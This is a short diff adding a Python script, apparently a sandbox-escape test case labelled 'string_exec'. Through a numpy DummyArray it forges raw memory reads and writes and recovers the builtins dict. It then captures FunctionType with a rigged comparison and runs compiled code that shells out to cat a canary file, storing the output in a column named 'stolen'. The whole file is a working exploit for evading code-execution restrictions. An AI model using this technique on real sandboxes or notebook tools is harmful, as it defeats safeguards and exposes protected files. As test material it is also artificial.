@@ -1,0 +1,47 @@
+# class: string_exec
+# technique: builtins['compile'] + FunctionType (type of a snippet function captured by a comparison) run a code object (builtins dict forged from raw memory with numpy.lib.stride_tricks.DummyArray)
+# goal: exec
+import numpy as np
+import pandas as pd
+from numpy.lib.stride_tricks import DummyArray
+
+
+def view(address, size):
+    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))
+
+
+def peek(address):
+    return int(view(address, 8).view(np.uint64)[0])
+
+
+def poke(address, value):
+    view(address, 8).view(np.uint64)[0] = value
+
+
+def object_at(address):
+    holder = [None]
+    items = peek(id(holder) + 24)
+    poke(address, peek(address) + 1)
+    poke(items, address)
+    return holder[0]
+
+
+builtin = object_at(peek(id(view) + 24))
+
+code = builtin["compile"]("import subprocess\nout = subprocess.getoutput(cmd)", "<cell>", "exec")
+scope = {"cmd": "cat {{CANARY_FILE}}"}
+kept = []
+
+
+class Grab:
+    def __eq__(self, other):
+        kept.append(other)
+        return False
+
+    def __hash__(self):
+        return 0
+
+
+Grab() == type(view)
+kept[0](code, scope)()
+df = pd.DataFrame({"stolen": [scope["out"]]})
